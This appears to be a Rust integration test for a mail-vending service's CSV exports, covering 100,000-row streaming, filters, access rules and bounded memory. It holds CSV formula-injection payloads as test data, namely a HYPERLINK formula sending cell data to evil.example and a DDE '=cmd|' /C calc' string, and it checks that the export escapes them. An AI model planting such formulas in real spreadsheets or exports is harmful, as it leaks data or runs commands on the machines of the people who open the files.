//! CSV exports at size: 100,000 mappings and 100,000 message records through the API and the
//! pages' download links, over real HTTP on a real SQLite store. One test in its own binary,
//! so the peak memory it measures is the export's and no other test's.

mod common;

use std::collections::{BTreeMap, HashSet};
use std::time::Instant;

use app::model::{Mapping, MappingStatus, MessageRecord, Outcome};
use common::{client, start, DOMAIN};
use reqwest::StatusCode;
use serde_json::{json, Value};
use server::tokens::Scope;

const ROWS: usize = 100_000;
const HOSTILE_SUBJECT: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Reset\")";

fn mapping(i: usize) -> Mapping {
    let name = format!("acct-{i:06}");
    let at = "2026-11-01T00:00:00.000Z".to_string();
    Mapping {
        address: format!("{name}@{DOMAIN}"),
        account_name: name,
        base: None,
        counter: None,
        account_type: if i.is_multiple_of(2) { "IT" } else { "Sales" }.into(),
        owner: format!("owner{}@corp.example", i % 100),
        tags: BTreeMap::from([("CostCentre".to_string(), format!("{}", i % 7))]),
        status: if i.is_multiple_of(10) {
            MappingStatus::Suspended
        } else {
            MappingStatus::Active
        },
        aws_account_id: None,
        account: None,
        notes: i
            .is_multiple_of(1000)
            .then(|| "-1+1 from the old spreadsheet, \"quoted\"".to_string()),
        created_at: at.clone(),
        created_by: "bulk".into(),
        updated_at: at,
        updated_by: "bulk".into(),
        recipients: Vec::new(),
        unreachable: Vec::new(),
    }
}

/// The day (1–28 of November) and outcome of record `i`.
fn day_of(i: usize) -> usize {
    1 + i % 28
}
fn outcome_of(i: usize) -> Outcome {
    if i.is_multiple_of(20) {
        Outcome::DeadLetter
    } else {
        Outcome::Forwarded
    }
}

fn record(i: usize) -> MessageRecord {
    let ses = format!("ses-{i:06}");
    let recipient = format!("acct-{:06}@{DOMAIN}", i % 1000);
    let at = format!(
        "2026-11-{:02}T{:02}:{:02}:{:02}.000Z",
        day_of(i),
        i % 24,
        i % 60,
        (i / 60) % 60
    );
    let hostile = i % 1000 == 7;
    MessageRecord {
        id: MessageRecord::id_for(&ses, &recipient),
        ses_message_id: ses,
        recipient,
        sender: if hostile {
            "@attacker.example"
        } else {
            "no-reply@aws.example"
        }
        .into(),
        subject: Some(if hostile {
            HOSTILE_SUBJECT.to_string()
        } else {
            format!("message {i}, with a comma")
        }),
        size: 1000 + i as u64,
        verdicts: "spam:PASS virus:PASS spf:PASS dkim:PASS dmarc:PASS".into(),
        outcome: outcome_of(i),
        delivered_to: Some("owner@corp.example".into()),
        detail: "forwarded to the owner".into(),
        mailer_message_id: None,
        error: None,
        attempts: 1,
        received_at: at.clone(),
        updated_at: at,
        delivery: None,
        class: None,
        policy: None,
    }
}

/// A kB figure of this process's `/proc/self/status` (`VmRSS`, `VmHWM`).
fn status_kb(field: &str) -> u64 {
    let status = std::fs::read_to_string("/proc/self/status").unwrap();
    status
        .lines()
        .find_map(|l| l.strip_prefix(field)?.trim().strip_suffix("kB"))
        .map(|v| v.trim().parse().unwrap())
        .unwrap_or_else(|| panic!("{field} in /proc/self/status"))
}

/// Resets the peak-memory mark (Linux: writing 5 to clear_refs); false where not allowed.
fn reset_peak() -> bool {
    std::fs::write("/proc/self/clear_refs", "5").is_ok()
}

struct Download {
    status: StatusCode,
    content_type: String,
    disposition: String,
    bytes: u64,
    file: tempfile::NamedTempFile,
}

impl Download {
    /// The header and every row, read back by a CSV reader.
    fn rows(&self) -> (Vec<String>, Vec<Vec<String>>) {
        let mut reader = csv::Reader::from_path(self.file.path()).unwrap();
        let header = reader.headers().unwrap().iter().map(String::from).collect();
        let rows = reader
            .records()
            .map(|r| r.unwrap().iter().map(String::from).collect())
            .collect();
        (header, rows)
    }

    fn text(&self) -> String {
        std::fs::read_to_string(self.file.path()).unwrap()
    }
}

/// Sends `req` and writes the body to a file chunk by chunk, as a client that does not hold
/// the export in memory would.
async fn download(req: reqwest::RequestBuilder) -> Download {
    use std::io::Write as _;
    let mut r = req.send().await.unwrap();
    let header = |name| {
        r.headers()
            .get(name)
            .map(|v: &reqwest::header::HeaderValue| v.to_str().unwrap().to_string())
            .unwrap_or_default()
    };
    let (content_type, disposition) = (
        header(reqwest::header::CONTENT_TYPE),
        header(reqwest::header::CONTENT_DISPOSITION),
    );
    let status = r.status();
    let mut file = tempfile::NamedTempFile::new().unwrap();
    let mut bytes = 0;
    while let Some(chunk) = r.chunk().await.unwrap() {
        bytes += chunk.len() as u64;
        file.write_all(&chunk).unwrap();
    }
    file.flush().unwrap();
    Download {
        status,
        content_type,
        disposition,
        bytes,
        file,
    }
}

fn column(header: &[String], name: &str) -> usize {
    header.iter().position(|h| h == name).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_of_100000_rows_stream_whole_filtered_and_escaped_in_bounded_memory() {
    let server = start().await;
    let admin = server.token(Scope::Admin).await;
    let vend = server.token(Scope::Vend).await;
    let api = |path: &str| format!("{}/api/v1{path}", server.url);

    let t = Instant::now();
    let mappings: Vec<Mapping> = (0..ROWS).map(mapping).collect();
    let records: Vec<MessageRecord> = (0..ROWS).map(record).collect();
    server.store.bulk_load(&mappings, &records).await.unwrap();
    drop((mappings, records));
    eprintln!(
        "loaded {ROWS} mappings and {ROWS} records in {:.1} s",
        t.elapsed().as_secs_f64()
    );

    // Two mappings vended through the API by the vend token (one with hostile tags).
    for (bu, tag) in [("export", "=cmd|' /C calc'!A0"), ("report", "plain")] {
        let r = client()
            .post(api("/addresses"))
            .bearer_auth(&vend)
            .json(&json!({"owner": "jdoe@corp.example", "account_type": "IT",
                "business_unit": bu, "application": "csv", "tags": {"Team": tag}}))
            .send()
            .await
            .unwrap();
        assert_eq!(
            r.status(),
            StatusCode::CREATED,
            "{}",
            r.text().await.unwrap()
        );
    }
    let all_mappings = ROWS + 2;

    // --- Every mapping, through the API, measured -----------------------------------------
    let d = download(
        client()
            .get(api("/addresses?format=csv"))
            .bearer_auth(&admin),
    )
    .await;
    assert_eq!(d.status, StatusCode::OK);
    assert_eq!(d.content_type, "text/csv; charset=utf-8; header=present");
    assert!(
        d.disposition
            .starts_with("attachment; filename=\"mailvend-addresses-")
            && d.disposition.ends_with(".csv\""),
        "{}",
        d.disposition
    );
    let (header, rows) = d.rows();
    assert_eq!(rows.len(), all_mappings, "every mapping, once");
    let address = column(&header, "address");
    let unique: HashSet<&str> = rows.iter().map(|r| r[address].as_str()).collect();
    assert_eq!(unique.len(), all_mappings, "no mapping twice across pages");
    assert!(rows.iter().all(|r| r.len() == header.len()));
    let notes = column(&header, "notes");
    let noted: Vec<&Vec<String>> = rows.iter().filter(|r| !r[notes].is_empty()).collect();
    assert_eq!(noted.len(), ROWS / 1000);
    assert!(
        noted
            .iter()
            .all(|r| r[notes] == "'-1+1 from the old spreadsheet, \"quoted\""),
        "a note that starts like a formula is escaped, its quotes and comma kept"
    );
    let tags = column(&header, "tags");
    let hostile = rows
        .iter()
        .find(|r| r[tags].contains("calc"))
        .expect("the hostile tags");
    assert_eq!(hostile[tags], r#"{"Team":"=cmd|' /C calc'!A0"}"#);
    measure(
        "addresses",
        rows.len(),
        client()
            .get(api("/addresses?format=csv"))
            .bearer_auth(&admin),
    )
    .await;
    drop(unique);
    drop(rows);

    // --- Every message record, through the API, measured ----------------------------------
    let d = download(
        client()
            .get(api("/messages"))
            .header("accept", "text/csv")
            .bearer_auth(&admin),
    )
    .await;
    assert_eq!(d.status, StatusCode::OK);
    assert!(
        d.content_type.starts_with("text/csv"),
        "Accept: text/csv answers CSV"
    );
    let (header, rows) = d.rows();
    assert_eq!(rows.len(), ROWS);
    let (id, subject, sender) = (
        column(&header, "id"),
        column(&header, "subject"),
        column(&header, "sender"),
    );
    let ids: HashSet<&str> = rows.iter().map(|r| r[id].as_str()).collect();
    assert_eq!(ids.len(), ROWS, "no record twice across pages");
    let received = column(&header, "received_at");
    assert!(
        rows.windows(2).all(|w| w[0][received] >= w[1][received]),
        "newest first, as the list pages"
    );
    let hostile: Vec<&Vec<String>> = rows
        .iter()
        .filter(|r| r[subject].contains("HYPERLINK"))
        .collect();
    assert_eq!(hostile.len(), ROWS / 1000);
    for r in &hostile {
        assert_eq!(r[subject], format!("'{HOSTILE_SUBJECT}"));
        assert_eq!(r[sender], "'@attacker.example");
    }
    measure(
        "messages",
        rows.len(),
        client()
            .get(api("/messages?format=csv"))
            .bearer_auth(&admin),
    )
    .await;
    drop(ids);
    drop(rows);

    // --- Filters: the same as the JSON list's ---------------------------------------------
    let d = download(
        client()
            .get(api("/addresses?status=suspended&account_type=IT"))
            .header("accept", "text/csv;q=0.9, application/json;q=0.5")
            .bearer_auth(&admin),
    )
    .await;
    let (header, rows) = d.rows();
    let want = (0..ROWS).filter(|i| i % 10 == 0 && i % 2 == 0).count();
    assert_eq!(rows.len(), want);
    let status = column(&header, "status");
    assert!(rows.iter().all(|r| r[status] == "suspended"));

    let filter = "outcome=dead_letter&from=2026-11-05&to=2026-11-06";
    let want = (0..ROWS)
        .filter(|&i| outcome_of(i) == Outcome::DeadLetter && (5..=6).contains(&day_of(i)))
        .count();
    assert!(want > 0);
    let by_api = download(
        client()
            .get(api(&format!("/messages?format=csv&{filter}")))
            .bearer_auth(&admin),
    )
    .await;
    assert_eq!(by_api.rows().1.len(), want);

    // --- The page's link: the same file for a signed-in admin -----------------------------
    let session = server.admin_client().await;
    let by_page = download(session.get(format!(
        "{}/export/messages.csv?{filter}&cursor=ignored",
        server.url
    )))
    .await;
    assert_eq!(by_page.status, StatusCode::OK);
    assert_eq!(by_page.content_type, by_api.content_type);
    assert_eq!(
        by_page.text(),
        by_api.text(),
        "the page's link and the API agree"
    );
    let by_page = download(session.get(format!(
        "{}/export/addresses.csv?status=suspended&q=acct-0000",
        server.url
    )))
    .await;
    let (_, rows) = by_page.rows();
    assert_eq!(rows.len(), (0..100).filter(|i| i % 10 == 0).count());
    let r = session
        .get(format!("{}/export/messages.csv?from=yesterday", server.url))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let text = r.text().await.unwrap();
    assert!(text.starts_with("from: "), "names the filter: {text}");

    // --- Who may export what ---------------------------------------------------------------
    let d = download(
        client()
            .get(api("/addresses?format=csv"))
            .bearer_auth(&vend),
    )
    .await;
    let (header, rows) = d.rows();
    assert_eq!(rows.len(), 2, "a vend token exports only what it vended");
    let notes = column(&header, "notes");
    assert!(rows.iter().all(|r| r[notes].is_empty()));
    let r = client()
        .get(api("/messages?format=csv"))
        .bearer_auth(&vend)
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::FORBIDDEN,
        "the log is for admins in CSV too"
    );
    let r = client()
        .get(format!("{}/export/addresses.csv", server.url))
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::SEE_OTHER,
        "no session: sign in first"
    );
    assert!(r.headers()["location"]
        .to_str()
        .unwrap()
        .starts_with("/login?next=%2Fexport%2Faddresses.csv"));
    // Another site cannot start a download in the admin's browser.
    let r = session
        .get(format!("{}/export/messages.csv", server.url))
        .header("sec-fetch-site", "cross-site")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::FORBIDDEN, "a cross-site navigation");
    let r = session
        .get(format!(
            "{}/export/messages.csv?outcome=rejected",
            server.url
        ))
        .header("sec-fetch-site", "same-origin")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK, "our own page's link");
    let r = client()
        .get(format!("{}/export/addresses.csv", server.url))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap();
    assert_eq!(
        r.status(),
        StatusCode::SEE_OTHER,
        "the page links take a session, not a token"
    );

    // --- Bad requests are refused before any row, naming the parameter -------------------
    for (query, field) in [
        ("format=xlsx", "format"),
        ("format=csv&cursor=***", "cursor"),
        ("format=csv&limit=0", "limit"),
        ("format=csv&status=gone", "status"),
    ] {
        let r = client()
            .get(api(&format!("/addresses?{query}")))
            .bearer_auth(&admin)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY, "{query}");
        let v: Value = r.json().await.unwrap();
        assert_eq!(v["error"]["field"], field, "{query}: {v}");
    }

    // --- A cursor starts the export where a JSON page ended ------------------------------
    let page: Value = client()
        .get(api("/addresses?limit=50"))
        .bearer_auth(&admin)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let cursor = page["next_cursor"].as_str().unwrap();
    let d = download(
        client()
            .get(api(&format!("/addresses?format=csv&cursor={cursor}")))
            .bearer_auth(&admin),
    )
    .await;
    let (header, rows) = d.rows();
    assert_eq!(rows.len(), all_mappings - 50);
    let first = page["items"][49]["address"].as_str().unwrap();
    assert!(rows[0][column(&header, "address")].as_str() > first);
}

/// Downloads an export again, a second time only if the first run is over the bound (the
/// first download warmed SQLite's page caches, up to
/// 2 MB for each reader connection, which a cold export's peak would count) and reports the
/// time and how far each run raised this process's peak memory. Held whole, an export raises
/// it by at least its own size on every run; streamed, by about a page (500 rows) and the
/// buffers around it, plus whatever a run touches for the first time: another of the pool's
/// eight reader connections warming its own cache, another worker thread's allocator arena.
/// One run has measured 5.4 MB for a 16.6 MB export where others measured 0.0, so the test
/// bounds the smaller of the runs by half the export: above that noise, far below what
/// holding the export costs.
async fn measure(what: &str, rows: usize, req: reqwest::RequestBuilder) {
    let mut least: Option<u64> = None;
    for run in 1..=2 {
        let req = req.try_clone().expect("a request without a streamed body");
        let measured = reset_peak();
        let before = status_kb("VmRSS:");
        let t = Instant::now();
        let d = download(req).await;
        let took = t.elapsed();
        let growth_kb = measured.then(|| status_kb("VmHWM:").saturating_sub(before));
        assert_eq!(d.status, StatusCode::OK);
        eprintln!(
            "export {what} (run {run}): {rows} rows, {:.1} MB in {:.2} s ({:.0} rows/s); \
             peak memory growth {}",
            d.bytes as f64 / 1e6,
            took.as_secs_f64(),
            rows as f64 / took.as_secs_f64(),
            growth_kb.map_or(
                "not measured (clear_refs not allowed)".into(),
                |kb| format!("{:.1} MB", kb as f64 / 1e3)
            ),
        );
        let Some(kb) = growth_kb else { return };
        least = Some(least.map_or(kb, |l| l.min(kb)));
        if (least.unwrap() * 1000) < d.bytes / 2 {
            return;
        }
        if run == 2 {
            panic!(
                "{what}: the peak grew by at least {} kB for a {}-byte export: is it buffered?",
                least.unwrap(),
                d.bytes
            );
        }
    }
}
